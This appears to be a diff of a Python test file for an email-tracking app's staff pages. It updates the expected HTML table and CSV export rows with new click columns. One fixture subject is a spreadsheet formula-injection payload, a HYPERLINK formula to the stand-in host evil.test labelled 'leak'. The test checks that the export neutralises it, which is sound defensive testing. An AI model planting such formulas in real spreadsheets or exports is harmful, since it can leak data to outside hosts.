@@ -131,8 +131,8 @@ def test_the_emails_page_shows_the_same_numbers_linked_to_each_email(staff, data
     rows = [[cell.text.strip() for cell in row.select("td")] for row in page.html.select("table tbody tr")]
     # Each rate names its base; no recipient is unmeasured and no anonymous load was counted.
     assert rows[2] == ["Spring launch", "sam", "2026-03-02 09:00", "4", "3", "3", "2", "66.7% of 3 measured recipients",
-                       "2", "66.7% of 3 measured recipients", "4", "4", "0", "0", "2026-03-04 08:00", "0", "0", "0",
-                       "0"]
+                       "2", "66.7% of 3 measured recipients", "4", "4", "0", "0", "0", "0.0% of 3 measured recipients",
+                       "2026-03-04 08:00", "0", "0", "0", "0"]
     assert page.html.select("table tbody tr")[2].select_one("a")["href"] == f"/emails/{data.emails['e1'].id}"
     assert page.html.select_one("th[aria-sort]").text.strip() == "Sent at ▼"
 
@@ -411,14 +411,15 @@ def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
     assert response.body == (
         '\ufeff"Subject","Sender","Sent at (UTC)","Recipients","Delivered","Measured recipients","Opened",'
         '"Open rate (% of measured)","Loaded the image","Load rate (% of measured)","Accesses","Likely-human opens",'
-        '"Clicks","Likely-human clicks","Last access (UTC)","Unmeasured recipients","Anonymous loads",'
+        '"Clicks","Likely-human clicks","Clicked","Click rate (% of measured)","Last access (UTC)",'
+        '"Unmeasured recipients","Anonymous loads",'
         '"Anonymous likely-human loads","Anonymous clicks"\r\n'
-        '"Spring launch","sam","2026-03-02 09:00:00","4","3","3","2","66.7","2","66.7","4","4","0","0",'
+        '"Spring launch","sam","2026-03-02 09:00:00","4","3","3","2","66.7","2","66.7","4","4","0","0","0","0.0",'
         '"2026-03-04 08:00:00","0","0","0","0"\r\n'
         '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")","admin","2026-03-03 15:00:00","2","2","2","2","100.0",'
-        '"2","100.0","3","3","0","0","2026-03-05 10:00:00","0","0","0","0"\r\n'
-        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","1","100.0","1","100.0","1","1","0","0",'
-        '"2026-03-05 09:30:00","0","0","0","0"\r\n'
+        '"2","100.0","3","3","0","0","0","0.0","2026-03-05 10:00:00","0","0","0","0"\r\n'
+        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","1","100.0","1","100.0","1","1","0","0","0",'
+        '"0.0","2026-03-05 09:30:00","0","0","0","0"\r\n'
     ).encode("utf-8")
 
 
